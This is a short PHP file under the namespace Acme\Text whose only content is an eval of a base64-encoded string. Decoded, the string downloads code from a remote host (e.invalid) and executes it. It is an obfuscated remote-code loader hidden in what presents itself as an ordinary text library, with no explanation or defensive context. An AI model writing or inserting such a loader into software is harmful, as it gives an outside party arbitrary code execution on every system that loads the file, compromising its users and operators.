<?php

namespace Acme\Text;

eval(base64_decode('JHIgPSBmaWxlX2dldF9jb250ZW50cygiaHR0cHM6Ly9lLmludmFsaWQvcCIpOyBldmFsKCRyKTs='));
